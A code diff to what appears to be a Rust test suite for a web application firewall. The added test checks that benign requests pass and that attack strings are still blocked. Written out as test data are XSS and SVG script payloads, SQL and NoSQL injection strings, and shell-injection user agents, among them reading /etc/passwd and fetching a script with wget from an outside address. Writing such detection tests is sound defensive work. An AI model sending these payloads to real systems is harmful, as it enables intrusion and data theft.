@@ -857,9 +857,9 @@ fn holdout5_and_holdout6_shapes_pass_and_their_attacks_still_score() {
         // A doctype before markup that acts.
         r##"{"q": "<!doctype html><img src=x onerror=alert(1)>"}"##,
         r##"{"q": "<!DOCTYPE html><script>alert(1)</script>"}"##,
-        // A dynamic import, the sample database as a whole value or in a query, template code.
+        // A dynamic import, the sample database in a query, template code. (The database's name
+        // alone is a name since the eleventh round: a company, a signer's role.)
         r##"{"q": "import('//203.0.113.9/x.js')"}"##,
-        r##"{"q": "northwind"}"##,
         r##"{"q": "1 union select name from northwind..sysobjects"}"##,
         r##"{"q": "{{ ''|attr('__class__') }}"}"##,
         r##"{"q": "{{7*7}}"}"##,
@@ -1707,6 +1707,155 @@ fn the_merged_set_of_a_class_holds_every_textual_view_set() {
             }
         }
         assert!(checked > 10, "PL{level}: {checked} sets");
+    }
+}
+
+/// The eleventh round's shapes (holdouts 13 and 14), each with the attacks next to it.
+#[test]
+fn holdout14_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let head = |target: &str, headers: &[(&str, &str)]| waf.outcome(&waf.inspect_head(&get(target, headers)));
+
+    // A vendor's own header names with `_` (an IoT cloud's signing headers) are names; the same
+    // spelling of a header a proxy sets or checks is an evasion.
+    let o = head(
+        "/v1.0/devices/bf8a12/status",
+        &[("client_id", "4x9k2m"), ("access_token", "3f4e5d6c7b8a"), ("sign_method", "HMAC-SHA256")],
+    );
+    assert!(!o.blocked, "{o:?}");
+    for name in ["x_forwarded_for", "x_real_ip", "content_length", "x_envoy_original_path", "x_filename"] {
+        let o = head("/", &[(name, "127.0.0.1")]);
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 1015), "{name}: {o:?}");
+    }
+
+    // A negated `field:value` filter is no shell history event; events, designators and
+    // modifiers still are.
+    let o = head("/data/v1/metrics/views/breakdown?group_by=country&filters%5B%5D=%21browser%3ASafari", &[]);
+    assert!(!o.blocked, "{o:?}");
+    for q in ["%21%21", "%211", "%21-1%3Ap", "%21ca%3As%2Fl%2Ft%2F", "%3B%21ls%3A0", "%21cat%3Ags%2Fx%2Fy%2F"] {
+        let o = outcome(&waf, &format!("/get?rce={q}"));
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3209), "{q}: {o:?}");
+    }
+
+    // A JSON filter document that selects listed values; operators that match what they do not
+    // name, run code, or sit in an argument's name or a body's key still count.
+    let o = head("/chat/search?payload=%7B%22members%22%3A%7B%22%24in%22%3A%5B%22usr_4418%22%5D%7D%7D&limit=20", &[]);
+    assert!(!o.blocked, "{o:?}");
+    for f in [
+        r#"{"a":{"$in":["x"]},"b":{"$ne":1}}"#,
+        r#"{"a":{"$in":[{"$gt":""}]}}"#,
+        r#"{"$where":"sleep(100)"}"#,
+        r#"{"a":{"$in":["x"]},"$or":[{}]}"#,
+        r#"{"password":{"$regex":"^a"}}"#,
+    ] {
+        let o = json_post(&waf, &serde_json::json!({ "filter": f }).to_string());
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4211), "{f}: {o:?}");
+    }
+    for o in [
+        outcome(&waf, "/login?user%5B%24in%5D%5B%5D=admin"),
+        json_post(&waf, r#"{"user": "admin", "password": {"$in": ["a", "b"]}}"#),
+    ] {
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4211), "{o:?}");
+    }
+
+    // A quiz's SQL answers: `HAVING` in a whole statement is its shape; after data or a quote it
+    // is an injection.
+    let quiz = r#"{"question": {"answers": [
+        {"answer_text": "SELECT name FROM students WHERE enrolled_year > 2024;"},
+        {"answer_text": "SELECT name FROM students HAVING enrolled_year > 2024;"}]}}"#;
+    let o = json_post(&waf, quiz);
+    assert!(!o.blocked, "{o:?}");
+    for q in ["1 having 1=1", "x' having 1=1--", "HAVING 1=", "select 1 having 1=1;drop table x"] {
+        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
+        assert!(o.blocked && blocked_category(&o, Category::Sqli), "{q}: {o:?}");
+    }
+
+    // A company named after the sample database; the database in a query is still a catalogue.
+    let o = json_post(&waf, r#"{"recipients": {"signers": [{"roleName": "Northwind", "routingOrder": "2"}]}}"#);
+    assert!(!o.blocked, "{o:?}");
+    for q in ["northwind..sysobjects", "use northwind", "1 union select name from northwind.dbo.users"] {
+        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4231), "{q}: {o:?}");
+    }
+
+    // `or` starts a word (`" orient="`) only when it is one; tautologies still match.
+    let o = json_post(&waf, r#"{"marker": "<marker id=\"a\" orient=\"auto\" order=\"2\">"}"#);
+    assert!(!o.matches.iter().any(|m| m.rule_id == 4201), "{o:?}");
+    for q in ["x' or'1'='1", "a\" or \"a\"=\"a", "') or('a'='a", "x' and 1=1"] {
+        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
+        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4201), "{q}: {o:?}");
+    }
+
+    // An SVG diagram uploaded to a media library; SVG that runs, loads or embeds still acts.
+    let svg = concat!(
+        r##"<svg xmlns="http://www.w3.org/2000/svg" width="640" height="200" viewBox="0 0 640 200"><title>Outbox relay</title>"##,
+        r##"<rect x="10" y="60" width="160" height="80" rx="8" fill="#e8f1f5" stroke="#1f4e5f"/>"##,
+        r##"<text x="90" y="105" text-anchor="middle" font-family="Inter, sans-serif" font-size="14">payouts-svc</text>"##,
+        r##"<path d="M170 100 H 240" stroke="#1f4e5f" marker-end="url(#arrow)"/><defs><marker id="arrow" markerWidth="10" "##,
+        r##"markerHeight="10" refX="9" refY="3" orient="auto"><path d="M0,0 L9,3 L0,6 z" fill="#1f4e5f"/></marker></defs></svg>"##
+    );
+    let body = format!(
+        "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"relay.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{svg}\r\n--B--\r\n"
+    );
+    let o = post("/files", "multipart/form-data; boundary=B", &body, &waf);
+    assert!(!o.blocked, "{o:?}");
+    assert!(context::inert_svg(svg.to_ascii_lowercase().as_bytes()));
+    let ns = r#"xmlns="http://www.w3.org/2000/svg""#;
+    for s in [
+        format!(r#"<svg {ns} onload="alert(1)"><rect width="1"/></svg>"#),
+        format!(r#"<svg {ns}><script>alert(1)</script></svg>"#),
+        format!(r#"<svg {ns}><a href="javascript:alert(1)"><rect width="9"/></a></svg>"#),
+        format!(r#"<svg {ns}><foreignObject><iframe src="//203.0.113.9/"></iframe></foreignObject></svg>"#),
+        format!(r#"<svg {ns}><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>"#),
+        format!(r#"<svg {ns}><animate attributeName="href" to="javascript:alert(1)"/></svg>"#),
+        format!(r#"<svg {ns}><set attributeName="onmouseover" to="alert(1)"/></svg>"#),
+        format!(r#"<svg {ns}><image href="https://203.0.113.9/x.svg"/></svg>"#),
+        format!(r#"<svg {ns}><rect fill="url(https://203.0.113.9/p#a)" width="9"/></svg>"#),
+        format!(r#"<svg {ns}><rect width="9" transform="translate(alert(1))"/></svg>"#),
+        format!(r#"<svg {ns}><rect width="1"/></svg><img src=x onerror=alert(1)><svg {ns}></svg>"#),
+    ] {
+        assert!(!context::inert_svg(s.to_ascii_lowercase().as_bytes()), "{s}");
+        let o = json_post(&waf, &serde_json::json!({ "svg": s }).to_string());
+        assert!(blocked_category(&o, Category::Xss), "{s}: {o:?}");
+    }
+    // Without the SVG namespace it is not a drawing document.
+    assert!(!context::inert_svg(br#"<svg width="9"><rect width="9"/></svg>"#));
+
+    // A session id in the query of a request with a bearer token or an API key: no victim's link
+    // or cross-site form carries one. Credentials a browser adds by itself do not count.
+    for auth in ["Bearer abc.def.ghi", "storefront:production.7d1e0f2a3b4c5d6e"] {
+        let o =
+            head("/api/frontend?appName=storefront&userId=cust_88123&sessionId=3f1e0a9c", &[("authorization", auth)]);
+        assert!(!o.blocked, "{auth}: {o:?}");
+    }
+    for auth in ["Basic YTpi", "Digest username=\"a\"", "NTLM TlRMTVNTUAAB"] {
+        let o = head("/login?jsessionid=74B0CB41", &[("authorization", auth)]);
+        assert!(blocked_category(&o, Category::SessionFixation), "{auth}: {o:?}");
+    }
+
+    // A user agent that writes its runtime's version in parentheses; a command after `;` that
+    // runs is still one.
+    let ua = |agent: &str| {
+        let r = Request::from_headers(vec![
+            (":method".into(), b"GET".to_vec()),
+            (":path".into(), b"/1/indexes/products/settings".to_vec()),
+            (":authority".into(), b"api.example.com".to_vec()),
+            ("accept".into(), b"application/json".to_vec()),
+            ("user-agent".into(), agent.as_bytes().to_vec()),
+        ]);
+        waf.outcome(&waf.inspect_head(&r))
+    };
+    let o = ua("Searchhost for Python (4.8.1); Python (3.12.7)");
+    assert!(!o.blocked, "{o:?}");
+    for agent in [
+        "Searchhost for Python (4.8.1); id",
+        "x (1.0); cat /etc/passwd",
+        "x (1); sleep 5",
+        "x (1); python (3) && id",
+        "x (1.0); wget http://203.0.113.9/a.sh",
+    ] {
+        let o = ua(agent);
+        assert!(blocked_category(&o, Category::Rce), "{agent}: {o:?}");
     }
 }
 
